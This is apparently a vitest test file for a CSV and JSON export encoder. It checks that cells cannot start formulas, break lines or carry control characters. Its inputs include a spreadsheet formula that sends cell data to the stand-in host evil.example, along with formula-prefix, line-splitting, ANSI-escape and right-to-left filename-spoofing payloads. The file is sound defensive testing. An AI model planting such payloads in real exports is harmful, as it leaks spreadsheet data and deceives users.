/** Names that somebody chose to harm whoever opens the export: text in every sink, and exactly theirs when it is read back. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { jsonLine, tableCell, tableLine, textOfCell } from "./table-cells.ts";

/** As a reader of CSV takes the quotes off. */
const unquoted = (cell: string): string => cell.slice(1, -1).replaceAll('""', '"');

describe("a cell", () => {
  it.each([
    '=WEBSERVICE("https://evil.example/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    '"=1',
    "\uff1d1+1",
    "'=1",
    "x;=1+1",
    'x";"=1+1',
    "a\r\nb,c",
    "\u001b[31mred",
    "abc\u202egpj.exe",
    "\u2028line",
    "\u{e0041}tag",
    "C:\\new\\u0041",
  ])("of %j begins no formula, no line and no other cell, and is had back", (text) => {
    const cell = tableCell(text);
    expect(unquoted(cell)).not.toMatch(/^[\s"]*[=+\-@\uff1d]/);
    expect(cell).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    for (const part of unquoted(cell).split(";").slice(1)) expect(part).not.toMatch(/^[\s"]*[=+\-@\uff1d]/);
    expect(textOfCell(unquoted(cell))).toBe(text);
    expect(JSON.parse(jsonLine({ text }))).toEqual({ text });
    expect(jsonLine({ text }).slice(0, -1)).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });

  it.each(["Büro-WLAN", "a@b.example", "Ops, Berlin", "x = 1", "日本"])("of %s stays as it is", (text) => {
    expect(unquoted(tableCell(text))).toBe(text);
  });

  it("gives every text back, whatever it is", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        expect(textOfCell(unquoted(tableCell(text)))).toBe(text);
        expect(JSON.parse(jsonLine(text))).toBe(text);
      }),
    );
    expect(tableLine(["a", 'b"']).split('","')).toEqual(['"a', 'b"""\r\n']);
  });
});
